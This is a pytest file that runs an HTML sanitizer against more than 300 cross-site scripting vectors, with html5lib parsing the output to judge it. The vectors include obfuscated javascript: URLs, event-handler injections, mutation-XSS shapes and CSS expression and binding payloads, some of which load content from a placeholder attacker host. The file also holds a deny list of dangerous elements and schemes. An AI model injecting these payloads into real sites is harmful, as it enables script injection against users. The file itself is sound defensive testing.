"""Over 300 XSS vectors through the sanitizer, judged by html5lib, an HTML parser that shares
nothing with nh3/html5ever or the sanitizer's own scan: no element that runs script or embeds
another document, no event handler, no script URL in any attribute, no script in any CSS.

The corpus: the hand-written classics of tests/data/xss_vectors.txt, plus vectors generated
from tags × event handlers, URL attributes × obfuscated script URLs, mutation-XSS shapes
(namespace confusion in SVG and MathML, raw-text elements, comments) and CSS vectors in style
attributes and style blocks (expressions, bindings, imports, escapes, full-width letters).
"""

from __future__ import annotations

import re
import unicodedata

import html5lib
import pytest

from relayops.adapters.sanitize import MissingInlineImage, sanitize
from tests.specs_util import REPO

CLASSICS = [
    line
    for line in (REPO / "tests" / "data" / "xss_vectors.txt").read_text().splitlines()
    if line.strip()
]
PAYLOAD = "alert(1)"
SCRIPT_URLS = [
    f"javascript:{PAYLOAD}",
    f"JaVaScRiPt:{PAYLOAD}",
    f" \tjavascript:{PAYLOAD}",
    f"java&#x09;script:{PAYLOAD}",
    f"java&#10;script:{PAYLOAD}",
    f"&#106;avascript:{PAYLOAD}",
    f"&#x6A;&#x61;vascript:{PAYLOAD}",
    f"javascript&colon;{PAYLOAD}",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    f"jav\u0000ascript:{PAYLOAD}",
]
URL_PLACES = [
    ("a", "href"),
    ("img", "src"),
    ("img", "lowsrc"),
    ("img", "dynsrc"),
    ("img", "srcset"),
    ("blockquote", "cite"),
    ("td", "background"),
    ("table", "background"),
    ("form", "action"),
    ("button", "formaction"),
    ("iframe", "src"),
    ("embed", "src"),
    ("object", "data"),
    ("video", "poster"),
    ("svg><a", "xlink:href"),
    ("math><a", "href"),
    ("base", "href"),
    ("link rel=stylesheet", "href"),
]
EVENT_TAGS = ["img src=x", "body", "svg", "details open", "video src=x", "p", "a", "td", "div"]
EVENTS = ["onerror", "onload", "onmouseover", "onfocus autofocus", "ontoggle", "OnClIcK"]
MUTATION = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><style><img src=x onerror=alert(1)></style></math>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<textarea></textarea><img src=x onerror=alert(1)>",
    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<template><script>alert(1)</script></template>",
    '<a href="#" id="x" onclick="alert(1)">x</a><a href="javascript&#58;alert(1)">y</a>',
    "<object data=javascript:alert(1)></object>",
    "<isindex action=javascript:alert(1) type=image>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    '<div style="x:expression(alert(1))">',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style></style><script>alert(1)</script>",
    "<style>p{color:red}</style ><img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<table background=javascript:alert(1)><td>x</td></table>",
]
CSS_VALUES = [
    "expression(alert(1))",
    "\\65 xpression(alert(1))",
    "ｅｘｐｒｅｓｓｉｏｎ(alert(1))",  # noqa: RUF001 - full-width letters fold to ASCII
    "url(javascript:alert(1))",
    "url('java\\73 cript:alert(1)')",
    "url(vbscript:msgbox(1))",
    "url(data:text/html,<script>alert(1)</script>)",
    "url(http://tracker.example/p.gif)",
    "-moz-binding:url(https://evil.example/x.xml#x)",
    "behavior:url(x.htc)",
    "be\\havior:url(x.htc)",
    'u\\72 l("javascript:alert(1)")',
]
CSS_PLACES = [
    '<p style="background:{v}">x</p>',
    '<p style="width:1px;{v}">x</p>',
    "<style>p{{background:{v}}}</style><p>x</p>",
    "<style>@media screen{{p{{color:red;background:{v}}}}}</style><p>x</p>",
    "<style>.a{{{v}}}</style><p class=a>x</p>",
]


def corpus() -> list[str]:
    vectors = list(CLASSICS)
    vectors += [f'<{tag} {attr}="{url}">x' for tag, attr in URL_PLACES for url in SCRIPT_URLS]
    vectors += [f"<{tag} {event}={PAYLOAD}>x" for tag in EVENT_TAGS for event in EVENTS]
    vectors += MUTATION
    vectors += [place.format(v=value) for place in CSS_PLACES for value in CSS_VALUES]
    return list(dict.fromkeys(vectors))


VECTORS = corpus()
# Elements that run script, embed another document, submit, or change how URLs resolve.
DANGEROUS = {
    *("script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "meta"),
    *("link", "form", "input", "button", "textarea", "select", "isindex", "svg", "math"),
    *("template", "noscript", "video", "audio", "source", "portal", "animate", "set"),
}
SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:", "mocha:")
UNSAFE_CSS = (
    "expression(",
    "javascript:",
    "vbscript:",
    "behavior",
    "binding",
    "@import",
    "</style",
)


def _css_as_a_browser_reads_it(css: str) -> str:
    """CSS escapes decoded (`\\65 ` and `\\e`), comments removed, full-width folded."""

    def unescape(match: re.Match[str]) -> str:
        hex_digits, char = match.group(1), match.group(2)
        return chr(int(hex_digits, 16)) if hex_digits else char

    text = re.sub(r"/\*.*?\*/", "", css, flags=re.DOTALL)
    text = re.sub(r"\\([0-9a-fA-F]{1,6})\s?|\\(.)", unescape, text)
    return unicodedata.normalize("NFKC", text).lower()


def survivors(html: str) -> list[str]:
    """What in `html` could still run script, as html5lib parses it."""
    found = []
    tree = html5lib.parse(html, namespaceHTMLElements=False)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue  # a comment
        tag = element.tag.rsplit("}", 1)[-1].lower()
        if tag in DANGEROUS:
            found.append(f"element <{tag}>")
        if tag == "style":
            css = _css_as_a_browser_reads_it(element.text or "")
            found += [f"style block with {word}" for word in UNSAFE_CSS if word in css]
            found += [f"style block with {u}" for u in re.findall(r"url\(\s*['\"]?([^)'\"]*)", css)
                      if not u.startswith(("https:", "cid:"))]  # fmt: skip
        for name, value in element.attrib.items():
            bare = str(name).rsplit("}", 1)[-1].lower()
            if bare.startswith("on"):
                found.append(f"<{tag} {bare}>")
            url = re.sub(r"[\x00-\x20]", "", value).lower()
            if url.startswith(SCRIPT_SCHEMES) or ("," in url and "javascript:" in url):
                found.append(f"<{tag} {bare}={value!r}>")
            if bare == "style":
                css = _css_as_a_browser_reads_it(value)
                found += [f"style={value!r}" for word in UNSAFE_CSS if word in css]
                urls = re.findall(r"url\(\s*['\"]?([^)'\"]*)", css)
                found += [f"style url {u!r}" for u in urls if not u.startswith(("https:", "cid:"))]
    return found


def test_the_corpus_has_over_300_vectors_and_the_judge_flags_them_unsanitized():
    assert len(VECTORS) >= 300
    flagged = [vector for vector in VECTORS if survivors(vector)]
    assert len(flagged) >= 0.9 * len(VECTORS), len(flagged)


def test_the_judge_finds_what_it_should():
    for unsafe in (
        "<script>alert(1)</script>",
        '<a href=" java\tscript:x">a</a>',
        '<img src="data:image/png;base64,AA">',
        '<p onclick="x">a</p>',
        '<p style="width:\\65 xpression(x)">a</p>',
        "<style>p{background:url(javascript:x)}</style>",
        "<svg><a>x</a></svg>",
        "<style>@import 'x';</style>",
    ):
        assert survivors(unsafe), unsafe


@pytest.mark.parametrize("vector", VECTORS, ids=[f"x{i:03d}" for i in range(len(VECTORS))])
def test_no_vector_survives(vector):
    try:
        result = sanitize(vector, inline_ids=set())
    except MissingInlineImage:
        return  # refused whole
    assert survivors(result.html) == [], result.html
